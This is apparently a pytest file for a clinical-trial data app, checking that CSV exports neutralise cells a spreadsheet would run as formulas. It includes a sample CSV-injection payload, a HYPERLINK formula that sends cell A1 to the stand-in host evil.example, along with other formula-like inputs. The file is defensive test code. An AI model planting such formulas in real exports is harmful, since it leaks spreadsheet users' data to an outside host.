"""Exports are safe to open (issue 9, item 13): a cell a spreadsheet would run as a formula is neutralised."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from helpers import new_subject, save

from ecrf.infra import csvsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


@pytest.mark.parametrize("value", [HYPERLINK, "-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", "-2"])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize("value, cell", [("72", "72"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"),
                                         ("'quoted", "'quoted")])
def test_other_cells_are_written_as_they_are(value, cell):
    assert csvsafe.cell(value) == cell


def test_the_writer_keeps_csv_quoting_and_neutralises_each_cell():
    text = csvsafe.write([["a", "b"], [HYPERLINK, 'x,"y"']])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'" + HYPERLINK, 'x,"y"']]


def test_every_csv_the_system_writes_goes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[1]
    files = [p for folder in ("ecrf", "scripts", "bench") for p in (root / folder).rglob("*.py")]
    writers = [str(p.relative_to(root)) for p in files
               if "csv.writer" in (text := p.read_text()) or "csv.DictWriter" in text]
    assert writers == ["ecrf/infra/csvsafe.py"]


def test_the_audit_csv_neutralises_entered_text(app, world, as_role):
    from ecrf.infra.extensions import db

    with app.app_context():
        subject = new_subject(db.session)
        save(db.session, subject, "F.ELIG", {"I.ELIG.LEUKRSN": HYPERLINK, "I.ELIG.OTHEREX": "-2+3"})
        key = subject.key
        db.session.remove()
    response = as_role("coordinator").get(f"/subjects/{key}/audit.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    by_item = {r["item_oid"]: r for r in rows if r["item_oid"]}
    assert by_item["I.ELIG.LEUKRSN"]["new_value"] == "'" + HYPERLINK
    assert by_item["I.ELIG.OTHEREX"]["new_value"] == "'-2+3"
    assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for row in rows for cell in row.values() if cell)
